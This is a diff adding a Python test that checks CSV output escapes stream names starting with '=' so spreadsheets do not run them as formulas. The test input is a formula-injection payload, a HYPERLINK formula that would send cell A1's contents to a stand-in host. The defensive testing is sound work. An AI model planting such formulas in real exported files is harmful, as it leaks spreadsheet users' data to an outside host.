@@ -44,6 +44,14 @@ def test_names_with_commas_quotes_and_newlines_survive(observe):
     assert row["stream"] == name
 
 
+def test_names_are_no_formulas(observe):
+    """A stream's name may come from a client, and who opens the table in a spreadsheet runs it."""
+    name = '=HYPERLINK("http://x/?"&A1)'
+    (row,) = table(observe(name, boxes=[[-1, 2, 3, 4, 0.5, 2, 1]]))
+    assert row["stream"] == f"'{name}"
+    assert row["x1"] == "-1.0"  # numbers stay numbers
+
+
 def test_a_file_is_gone_on_with(observe, tmp_path):
     path = tmp_path / "out.csv"
     for index in range(3):
